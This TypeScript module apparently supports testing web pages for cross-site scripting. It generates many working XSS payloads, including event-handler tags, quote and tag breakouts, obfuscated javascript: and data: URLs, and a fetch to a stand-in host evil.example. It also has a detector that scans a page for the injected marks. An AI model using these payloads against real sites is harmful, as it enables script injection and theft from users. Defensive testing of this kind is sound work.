/** What a payload leaves behind where it was taken for more than text: an element or attribute of this name. */
const MARK = "data-planted";

const RUN = "window.planted=1";
const CODES = [RUN, "alert`1`", "fetch(`//evil.example`)", "document.title=1", "eval(name)"];

/** Elements that run something as soon as they stand in a page. */
const ELEMENTS = [
  (code: string) => `<script ${MARK}>${code}</script>`,
  (code: string) => `<img ${MARK} src=x onerror=${code}>`,
  (code: string) => `<svg ${MARK}/onload=${code}>`,
  (code: string) => `<svg ${MARK}><animate onbegin=${code} attributeName=x dur=1s>`,
  (code: string) => `<details ${MARK} open ontoggle=${code}>`,
  (code: string) => `<iframe ${MARK} srcdoc="<script>${code}</script>">`,
  (code: string) => `<iframe ${MARK} src="javascript:${code}">`,
  (code: string) => `<input ${MARK} autofocus onfocus=${code}>`,
  (code: string) => `<video ${MARK}><source onerror=${code}></video>`,
  (code: string) => `<math ${MARK}><mi xlink:href="javascript:${code}">x</mi></math>`,
];
/** What leaves the place in which a text stands. */
const ESCAPES = ["", '">', "'>", "</script>", "</textarea>", "</title>", "--></style>", "]]>"];

/** Attributes that a quote lets in. */
const ATTRIBUTES = [
  (code: string) => `" ${MARK} onmouseover="${code}`,
  (code: string) => `' ${MARK} onmouseover='${code}`,
  (code: string) => `" ${MARK} autofocus onfocus="${code}" x="`,
  (code: string) => `" ${MARK} style="animation:a" onanimationstart="${code}`,
];

/** Addresses that run something when they are followed. */
const ADDRESSES = [
  (code: string) => `javascript:${code}`,
  (code: string) => `JaVaScRiPt:${code}`,
  (code: string) => `\tjava\nscript:${code}`,
  (code: string) => `data:text/html,<script ${MARK}>${code}</script>`,
  (code: string) => `vbscript:${code}`,
];

const each = (ways: readonly ((code: string) => string)[], codes: readonly string[]) =>
  ways.flatMap((way) => codes.map(way));

/** Texts that become more than text wherever a page forgets to encode them. */
export const PAYLOADS: readonly string[] = [
  ...ESCAPES.flatMap((before) => each(ELEMENTS, CODES.slice(0, before === "" ? 5 : 2)).map((text) => before + text)),
  ...each(ATTRIBUTES, CODES.slice(0, 3)),
  ...each(ADDRESSES, CODES.slice(0, 3)),
];

const RUNS = /^(javascript|vbscript|data):/;
const LEADING = ["href", "src", "action", "formaction", "xlink:href", "data", "poster"];

/** As much of a page as is looked at. */
type Page = {
  querySelectorAll(
    selector: "*",
  ): Iterable<{ tagName: string; attributes: Iterable<{ name: string; value: string | null }> }>;
};

/** What a page has in it that a payload made, as "element attribute". Nothing in a page of ours. */
export function plantedIn(document: Page): string[] {
  const found: string[] = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.tagName.toLowerCase();
    for (const { name: attribute, value: given } of element.attributes) {
      const value = given ?? "";
      const leads = LEADING.includes(attribute.toLowerCase());
      // Browsers pass over blanks and signs without a picture in front of an address, and within its first word.
      const address = [...value]
        .filter((sign) => sign > " ")
        .join("")
        .toLowerCase();
      const image = name === "img" && address.startsWith("data:image/");
      if (attribute === MARK || /^on/i.test(attribute)) found.push(`${name} ${attribute}`);
      else if (leads && RUNS.test(address) && !image) found.push(`${name} ${attribute}=${value.slice(0, 40)}`);
    }
  }
  return found;
}
